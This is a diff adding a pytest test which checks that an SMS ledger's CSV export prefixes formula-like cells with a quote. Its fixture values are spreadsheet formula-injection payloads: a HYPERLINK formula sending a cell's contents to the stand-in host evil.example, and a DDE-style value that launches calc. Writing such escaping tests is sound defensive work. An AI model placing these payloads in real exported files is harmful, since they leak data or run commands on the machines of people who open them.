@@ -136,6 +136,47 @@ def test_ops_list_filters_by_batch_recipient_and_time(
     assert "reaches back before the year 1; give a smaller age" in capsys.readouterr().err
 
 
+FORMULA_KEY = '=HYPERLINK("http://evil.example/?x="&A1)'
+
+
+def formula_send(url: str) -> None:
+    """A send whose key, metadata and recipient each begin like a spreadsheet formula."""
+    arguments = {"to": "+15550100", "body": "Hi", "idempotency_key": FORMULA_KEY}
+    text = keys.canonical_json(arguments)
+    intent = Intent(
+        idempotency_key=FORMULA_KEY,
+        tool="send_sms",
+        channel="sms",
+        recipients=("+15550100",),
+        request=text,
+        request_fingerprint=keys.fingerprint(text),
+        content_fingerprint=keys.fingerprint(text),
+        campaign_id="@SUM(1+1)",
+        lead_id="-2+3",
+        message_id="\tcmd|' /C calc'!A0",
+    )
+
+    async def seed() -> None:
+        async with open_ledger(url) as ledger:
+            await ledger.begin_send(intent, owner="w1", lease_seconds=60)
+
+    anyio.run(seed)
+
+
+def test_ops_export_as_csv_shows_formula_like_cells_as_text(
+    ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    formula_send(ledger_url)
+    code, _, _ = run(capsys, "ops", "export", "--format", "csv", "--output", str(tmp_path / "ops.csv"))
+    [row] = list(csv.DictReader((tmp_path / "ops.csv").read_text().splitlines()))
+    assert code == 0
+    assert row["idempotency_key"] == "'" + FORMULA_KEY
+    assert (row["campaign_id"], row["lead_id"]) == ("'@SUM(1+1)", "'-2+3")
+    assert row["message_id"] == "'\tcmd|' /C calc'!A0"
+    assert row["recipients"] == "'+15550100"
+    assert row["state"] == "sending"  # a cell that does not begin like a formula is as stored
+
+
 def test_ops_export_pages_through_every_operation_as_csv_or_json_lines(
     ledger_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
